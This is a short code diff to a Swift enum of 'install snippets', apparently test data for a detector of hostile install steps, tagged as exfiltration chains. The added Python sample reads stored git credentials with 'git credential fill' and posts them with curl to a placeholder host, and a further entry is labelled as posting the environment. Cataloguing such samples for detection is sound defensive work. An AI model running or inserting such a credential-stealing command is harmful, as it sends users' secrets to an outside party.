@@ -272,6 +272,15 @@ enum InstallSnippets {
 
     static let python: [Snippet] = [
         Snippet(
+            "hands what git keeps to a command that sends it",
+            .chainExfiltration,
+            source: """
+                import subprocess
+                out = subprocess.run(['git', 'credential', 'fill'], input=b'url=https://git.example.invalid', capture_output=True).stdout
+                subprocess.run(['curl', '-s', '--data-binary', '@-', 'https://c.example.invalid'], input=out)
+                """
+        ),
+        Snippet(
             "posts the environment",
             .chainExfiltration,
             source: """
